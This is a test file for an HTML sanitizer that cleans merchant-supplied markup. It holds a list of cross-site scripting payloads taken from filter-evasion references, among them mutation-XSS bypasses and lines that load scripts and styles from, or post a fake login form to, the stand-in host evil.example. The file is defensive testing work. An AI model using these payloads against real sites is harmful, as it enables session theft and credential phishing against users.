import { sanitize } from './sanitize';

/** From the OWASP filter-evasion sheet and from published bypasses of sanitizers. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div id="root" name="getElementById">clobber</div>',
  '<p onclick=alert(1) data-x="1" aria-label="y" class="MuiDialog-root">x</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p><!-- --!><img src=x onerror=alert(1)>--></p>',
  '<xss onpointerover=alert(1) tabindex=1>x</xss>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
];

const HARMLESS = new Set(
  [
    ...['p', 'br', 'hr', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'blockquote', 'span', 'div', 'strong'],
    ...[
      'b',
      'em',
      'i',
      'u',
      's',
      'small',
      'sub',
      'sup',
      'h3',
      'h4',
      'h5',
      'h6',
      'table',
      'caption',
    ],
    ...['thead', 'tbody', 'tr', 'th', 'td'],
  ].map((tag) => tag.toUpperCase()),
);
const ATTRIBUTES = new Set(['colspan', 'rowspan', 'scope', 'lang', 'dir']);

describe('a merchant’s HTML', () => {
  it.each(PAYLOADS)('is harmless: %s', (payload) => {
    const page = document.createElement('div');
    page.innerHTML = sanitize(`<p>before</p>${payload}<p>after</p>`);
    for (const element of page.querySelectorAll('*')) {
      expect(HARMLESS).toContain(element.tagName);
      for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
    }
    expect(page.textContent).toContain('before');
  });

  it('keeps its formatting', () => {
    const html =
      '<p>Woven <strong>by hand</strong></p><ul><li>Cotton</li></ul><table><tbody><tr><th scope="row">S</th><td>86</td></tr></tbody></table>';
    expect(sanitize(html)).toBe(html);
  });

  it('cannot set a headline above the page’s own', () => {
    expect(sanitize('<h1>Sale!</h1><h2 class="x">Now</h2>')).toBe('<h3>Sale!</h3><h3>Now</h3>');
  });
});
